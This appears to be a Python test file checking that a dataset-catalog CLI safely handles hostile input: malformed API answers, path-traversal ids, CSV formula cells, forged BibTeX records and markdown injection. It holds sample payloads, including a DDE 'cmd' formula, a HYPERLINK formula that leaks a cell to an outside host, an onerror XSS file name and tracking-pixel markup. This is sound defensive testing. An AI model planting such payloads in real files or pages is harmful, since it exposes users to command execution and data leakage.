"""Hostile input, round 6: the catalog's inputs and outputs other than fetch (import, new, export, site, contrib).

Each test runs the CLI as a user would, with a fresh USREG_HOME; hosts are a real HTTP server on 127.0.0.1."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
from pathlib import Path

import bibtexparser
import pytest

from registry.duplicates import MAX_NAMED
from registry.spreadsheet import FORMULA_START
from tests.conftest import minimal_dataset
from tests.contrib.conftest import host_server  # noqa: F401  (the fixture)
from tests.fixtures.server import HostServer, Response


@pytest.fixture
def hosts(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> HostServer:
    """The contributor tests' local hosts (their ``host_server`` fixture), with no retries: a wrong answer is not
    transient."""
    monkeypatch.setenv("USREG_MAX_ATTEMPTS", "1")
    return request.getfixturevalue("host_server")


def _answer(server: HostServer, path: str, body: bytes) -> None:
    server.add_route(path, lambda request: Response(200, {"Content-Type": "application/json"}, body))


def _files(root: Path) -> list[str]:
    return sorted(p.relative_to(root).as_posix() for p in root.rglob("*") if p.is_file())


# -- usreg import: host answers of another shape than the API documents -------------------------------------------
@pytest.mark.parametrize(
    ("path", "body", "ref"),
    [
        ("/zenodo/api/records/1", [1, 2], "https://zenodo.org/records/1"),  # a list where a record belongs
        ("/zenodo/api/records/2", {"metadata": "x"}, "https://zenodo.org/records/2"),
        ("/zenodo/api/records/3", {"metadata": {"title": "T", "publication_date": 2020}}, "10.5281/zenodo.3"),
        ("/zenodo/api/records/4", {"metadata": {"title": "T", "publication_date": "abcd"}}, "10.5281/zenodo.4"),
        ("/zenodo/api/records/5", {"metadata": {"title": "T"}, "files": 5}, "https://zenodo.org/records/5"),
        ("/zenodo/api/records/6", {"metadata": {"title": "T", "creators": ["a"]}}, "https://zenodo.org/records/6"),
        ("/datacite/dois/10.1234/a", {"data": []}, "doi:10.1234/a"),
        ("/datacite/dois/10.1234/b", {"data": {"attributes": {"titles": "abc"}}}, "doi:10.1234/b"),
        ("/crossref/works/10.1234/c", {"message": {"title": 5}}, "doi:10.1234/c"),
        ("/figshare/v2/articles/7", [], "https://figshare.com/articles/dataset/x/7"),
        ("/github-api/repos/o/r", {"name": "r", "license": "MIT"}, "https://github.com/o/r"),
    ],
)
def test_import_of_a_wrongly_shaped_answer_is_a_clear_error(catalog_root, run_cli, hosts, path, body, ref) -> None:
    """Each of these answers ended `usreg import` with a Python traceback (AttributeError, TypeError, ValueError)."""
    if path.startswith("/crossref"):
        hosts.add_route("/datacite/dois/10.1234/c", lambda request: Response.json({}, status=404))
    _answer(hosts, path, json.dumps(body).encode())
    result = run_cli("import", ref, root=catalog_root.root)
    assert result.exit_code == 1, result.output
    assert "not in the shape its API documents" in result.stderr and "usreg new" in result.stderr
    assert _files(catalog_root.root) == []


def test_import_of_json_nested_too_deeply_is_a_clear_error(catalog_root, run_cli, hosts) -> None:
    """A 100,000-deep JSON array raised RecursionError out of the JSON parser."""
    _answer(hosts, "/zenodo/api/records/8", b"[" * 100_000 + b"]" * 100_000)
    result = run_cli("import", "https://zenodo.org/records/8", root=catalog_root.root)
    assert result.exit_code == 1, result.output
    assert "nested too deeply" in result.stderr
    assert _files(catalog_root.root) == []


def test_import_of_a_huge_one_word_title_drafts_a_short_id(catalog_root, run_cli, hosts) -> None:
    """A 1,000,000-letter title became a 1,000,000-letter file name: 'File name too long', exit 2."""
    _answer(hosts, "/zenodo/api/records/9", json.dumps({"metadata": {"title": "A" * 1_000_000}}).encode())
    result = run_cli("import", "https://zenodo.org/records/9", root=catalog_root.root)
    assert result.exit_code == 0, result.output
    (written,) = _files(catalog_root.root)
    assert written == f"entries/datasets/{'a' * 64}.yaml"


def test_import_id_is_an_entry_id_never_a_path(catalog_root, run_cli, hosts, tmp_path: Path) -> None:
    """`--id ../../x` wrote the draft outside entries/ (or crashed on its relative path)."""
    _answer(hosts, "/zenodo/api/records/10", json.dumps({"metadata": {"title": "T"}}).encode())
    outside = tmp_path / "outside"
    outside.mkdir()
    for bad in ("../../../outside/x", "abc\n"):
        result = run_cli("import", "https://zenodo.org/records/10", "--id", bad, root=catalog_root.root)
        assert result.exit_code != 0, result.output
        assert "is not an entry id" in result.stderr and "kebab-case" in result.stderr
    assert list(outside.iterdir()) == [] and _files(catalog_root.root) == []


def test_new_refuses_an_id_with_a_trailing_newline(catalog_root, run_cli) -> None:
    """Python's `$` matched before a final newline: `usreg new dataset $'abc\\n'` wrote 'abc\\n.yaml'."""
    result = run_cli("new", "dataset", "abc\n", "--no-interactive", root=catalog_root.root)
    assert result.exit_code != 0, result.output
    assert _files(catalog_root.root) == []


# -- usreg export / list: formula cells and BibTeX records --------------------------------------------------------
FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]


def _formula_catalog(catalog_root) -> None:
    for i, text in enumerate(FORMULAS):
        catalog_root.dataset(minimal_dataset(f"f{i}", name=text, notes=text))


def test_csv_export_quotes_formula_cells(catalog_root, run_cli, tmp_path: Path) -> None:
    """A name such as =HYPERLINK(...) went into the CSV as is: a spreadsheet opening it ran the formula."""
    _formula_catalog(catalog_root)
    out = tmp_path / "catalog.csv"
    result = run_cli("export", "--format", "csv", "-o", out, root=catalog_root.root)
    assert result.exit_code == 0, result.output
    rows = {row["id"]: row for row in csv.DictReader(out.open(encoding="utf-8"))}
    for i, text in enumerate(FORMULAS):
        assert rows[f"f{i}"]["name"] == "'" + text and rows[f"f{i}"]["notes"] == "'" + text
    assert all(not cell.startswith(FORMULA_START) for row in rows.values() for cell in row.values())
    assert json.loads(run_cli("export", "--format", "json", root=catalog_root.root).output)[0]["name"] in FORMULAS


def test_list_csv_quotes_formula_cells(catalog_root, run_cli) -> None:
    """`usreg list --format csv` wrote the same cells unquoted."""
    _formula_catalog(catalog_root)
    result = run_cli("list", "--format", "csv", root=catalog_root.root)
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert sorted(row["name"] for row in rows) == sorted("'" + text for text in FORMULAS)


@pytest.mark.parametrize(
    ("record", "problem"),
    [
        ("@misc{k, title={open\n\n@comment{", "a line inside it starts with @"),
        ("@misc{k, title={a}}\n@misc{usreg_other, title={forged}}", "a line inside it starts with @"),
        ("@misc{k, title={a}} @misc{x, title={b}}", "text follows its closing brace"),
        ("@misc{k, title={a}}}", "text follows its closing brace"),
        ("@misc{k, title={a}", "1 brace(s) are left open"),
        ("title = {no record}", "it does not start with @type{key,"),
    ],
)
def test_a_publication_bibtex_must_be_one_whole_record(catalog_root, run_cli, record: str, problem: str) -> None:
    """`publications[].bibtex` was any text and went into `usreg export --format bibtex` as written: an open brace
    swallowed the next entries' records, and a second record could forge another entry's key."""
    catalog_root.dataset(minimal_dataset("aaa", publications=[{"title": "T", "bibtex": record}]))
    catalog_root.dataset(minimal_dataset("bbb"))
    result = run_cli("validate", root=catalog_root.root)
    assert result.exit_code == 1, result.output
    assert "bibtex is not one whole BibTeX record" in result.output and problem in result.output
    exported = run_cli("export", "--format", "bibtex", root=catalog_root.root)  # skips the entry, with a warning
    assert "skipping 1 entry file" in exported.stderr and "@misc{k" not in exported.stdout
    library = bibtexparser.parse_string(exported.stdout)
    assert [e.key for e in library.entries] == ["usreg_bbb"] and not library.failed_blocks


def test_a_whole_bibtex_record_is_exported_and_parses(catalog_root, run_cli) -> None:
    """The check refuses no real record: braces inside values, @ inside a line, a trailing newline."""
    record = "@article{Doe2020,\n  title = {The {BUS} @ data},\n  author = {Doe, J.},\n  year = {2020}\n}\n"
    catalog_root.dataset(minimal_dataset("aaa", publications=[{"title": "T", "bibtex": record}]))
    result = run_cli("export", "--format", "bibtex", root=catalog_root.root)
    assert result.exit_code == 0, result.output
    library = bibtexparser.parse_string(result.stdout)
    assert [e.key for e in library.entries] == ["usreg_aaa", "Doe2020"] and not library.failed_blocks


# -- usreg validate: a catalog of look-alike entries --------------------------------------------------------------
def test_duplicate_warnings_are_bounded_per_entry(catalog_root, run_cli) -> None:
    """Every pair of look-alike entries was one warning: 10,000 generated entries gave 50 million warnings, 10 minutes
    and 24 GB of memory in `usreg validate`. At most MAX_NAMED are named per entry, then one warning says there are
    more."""
    count = 80
    for i in range(count):
        catalog_root.dataset(minimal_dataset(f"e{i}", name=f"<b>Look alike {'W' * 200}</b> {i}"))
    result = run_cli("validate", root=catalog_root.root)
    assert result.exit_code == 0, result.output
    named = result.output.count("warning: possible duplicate of '")
    assert 0 < named <= count * MAX_NAMED
    assert result.output.count(f"possible duplicate of more than {MAX_NAMED} entries") == count


# -- usreg diff --format markdown: the pull-request comment -------------------------------------------------------
def test_diff_markdown_shows_a_pull_requests_text_as_text(catalog_root, run_cli) -> None:
    """The comment quoted entry names and file names raw: a backtick closed the code span, and an <img> (a tracking
    pixel), a link or an @mention in a name went into the pull request as markup."""
    pytest.importorskip("scorers")
    from markdown_it import MarkdownIt

    root = catalog_root.root
    for args in (["init", "-q", "-b", "main"], ["config", "user.email", "t@example.org"], ["config", "user.name", "T"]):
        subprocess.run(["git", "-C", str(root), *args], check=True, capture_output=True)
    catalog_root.dataset(minimal_dataset("base"))
    subprocess.run(["git", "-C", str(root), "add", "-A"], check=True, capture_output=True)
    subprocess.run(["git", "-C", str(root), "commit", "-qm", "base"], check=True, capture_output=True)
    hostile = "x` <img src=https://evil.example/p.png> [click](https://evil.example) @octocat | `"
    catalog_root.dataset(minimal_dataset("twin-a", name=hostile))
    catalog_root.dataset(minimal_dataset("twin-b", name=hostile))
    catalog_root.raw("datasets", "bad`<img src=q.png onerror=alert(1)>`", "id: [")
    result = run_cli("diff", "HEAD", "--format", "markdown", root=root)
    assert result.exit_code == 1, result.output  # the unparsable file is an error
    html = MarkdownIt("commonmark", {"html": True}).enable("table").render(result.stdout)
    assert "<img" not in html and "<a " not in html
    assert html.count("&lt;img src=https://evil.example/p.png&gt;") >= 2  # both twins' warnings, as text
    assert "@octocat" in html and "<tr>" in html and html.count("<tr>") == 4  # header and three rows: table whole


# -- files beside the target are the user's -------------------------------------------------------------------------
def test_export_and_new_leave_a_users_tmp_file_alone(catalog_root, run_cli, tmp_path: Path) -> None:
    """`usreg export -o out.csv` wrote through out.csv.tmp and `usreg new` through <id>.yaml.tmp: a file of the user's
    by that name was overwritten and moved over the target."""
    catalog_root.dataset(minimal_dataset("one"))
    out = tmp_path / "out.csv"
    mine = [tmp_path / "out.csv.tmp", catalog_root.root / "entries" / "datasets" / "two.yaml.tmp"]
    for path in mine:
        path.write_text("the user's own notes\n")
    assert run_cli("export", "--format", "csv", "-o", out, root=catalog_root.root).exit_code == 0
    assert run_cli("new", "dataset", "two", "--no-interactive", root=catalog_root.root).exit_code == 0
    assert all(path.read_text() == "the user's own notes\n" for path in mine)
    assert out.read_text().startswith("entry_kind,") and (out.stat().st_mode & 0o777) == 0o666 & ~_umask()
    written = catalog_root.root / "entries" / "datasets" / "two.yaml"
    assert written.read_text().startswith("# yaml-language-server")
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == []  # no temporary file left


def _umask() -> int:
    mask = os.umask(0)
    os.umask(mask)
    return mask
